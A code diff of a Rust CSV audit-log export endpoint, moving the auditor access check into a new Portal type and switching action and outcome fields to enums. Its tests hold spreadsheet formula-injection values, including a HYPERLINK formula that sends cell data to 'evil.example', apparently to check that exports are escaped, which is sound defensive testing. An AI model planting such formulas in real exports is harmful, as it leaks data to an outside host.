@@ -17,9 +17,9 @@ use http::{header, StatusCode};
 use serde::Deserialize;
 
 use accounts::{AuditQuery, AuditRecord, AuditTrail};
-use app::access::ssr::Access;
-use app::audit::{AuditFilters, NOT_AN_AUDITOR};
-use app::session::{ClientInfo, SignedIn};
+use domain::audit::AuditFilters;
+use domain::{ClientInfo, SignedIn};
+use portal::Portal;
 
 pub const PATH: &str = "/audit.csv";
 
@@ -28,8 +28,8 @@ const MOST: i64 = 10_000;
 /// Records read from the database at a time.
 const CHUNK: i64 = 500;
 
-pub fn routes(access: Arc<Access>) -> Router {
-    Router::new().route(PATH, get(export)).with_state(access)
+pub fn routes(portal: Arc<Portal>) -> Router {
+    Router::new().route(PATH, get(export)).with_state(portal)
 }
 
 const HEADER: [&str; 17] = [
@@ -98,7 +98,7 @@ fn csv(records: &[AuditRecord], header: bool) -> Result<Vec<u8>, csv::Error> {
             time(r.at),
             r.user.clone(),
             r.groups.join(" "),
-            r.action.clone(),
+            r.action.as_str().to_owned(),
             r.runbook.clone(),
             r.version.clone(),
             r.mode.clone(),
@@ -106,7 +106,7 @@ fn csv(records: &[AuditRecord], header: bool) -> Result<Vec<u8>, csv::Error> {
             r.parameters.clone(),
             r.targets.clone(),
             r.execution_id.clone(),
-            r.outcome.clone(),
+            r.outcome.as_str().to_owned(),
             r.detail.clone(),
             r.client_address.clone(),
             r.user_agent.clone(),
@@ -181,26 +181,18 @@ async fn export_body(
 }
 
 async fn export(
-    State(access): State<Arc<Access>>,
+    State(portal): State<Arc<Portal>>,
     Extension(user): Extension<SignedIn>,
     client: Option<Extension<ClientInfo>>,
     Query(filters): Query<AuditFilters>,
     Query(start): Query<ExportStart>,
 ) -> Response {
-    if !access.rights(&user).may_audit() {
-        let reason = NOT_AN_AUDITOR.to_owned();
-        let client = client.map(|Extension(c)| c).unwrap_or_default();
-        access.record_refusal(AuditRecord {
-            user: user.name,
-            groups: user.groups,
-            action: "refused".into(),
-            detail: format!("GET {PATH}: {reason}"),
-            client_address: client.address,
-            user_agent: client.user_agent,
-            ..AuditRecord::default()
-        });
-        return (StatusCode::FORBIDDEN, reason).into_response();
-    }
+    let client = client.map(|Extension(c)| c).unwrap_or_default();
+    let viewer = portal.viewer(user, client, format!("GET {PATH}"));
+    let trail = match portal.audit_trail(&viewer) {
+        Ok(trail) => trail.clone(),
+        Err(refused) => return crate::answer::error(refused),
+    };
     let query = AuditQuery {
         user: filters.user,
         action: filters.action,
@@ -209,7 +201,7 @@ async fn export(
         before: start.before,
         ..AuditQuery::default()
     };
-    let body = match export_body(access.audit().clone(), query, MOST, CHUNK).await {
+    let body = match export_body(trail, query, MOST, CHUNK).await {
         Ok(body) => body,
         Err(e) => {
             let message = format!(
@@ -269,7 +261,7 @@ mod tests {
             id: 7,
             user: r#"=HYPERLINK("https://evil.example/?"&A2,"x")"#.into(),
             groups: vec!["-x".into()],
-            action: "sign-in-failed".into(),
+            action: domain::audit::Action::SignInFailed,
             user_agent: "@SUM(1)".into(),
             ..AuditRecord::default()
         };
@@ -305,8 +297,8 @@ mod tests {
         for user in ["ann", "bob"].repeat(8) {
             let record = AuditRecord {
                 user: user.into(),
-                action: "sign-in".into(),
-                outcome: "succeeded".into(),
+                action: domain::audit::Action::SignIn,
+                outcome: domain::audit::Outcome::Succeeded,
                 ..AuditRecord::default()
             };
             let id = trail.write(&record).await.expect("written");
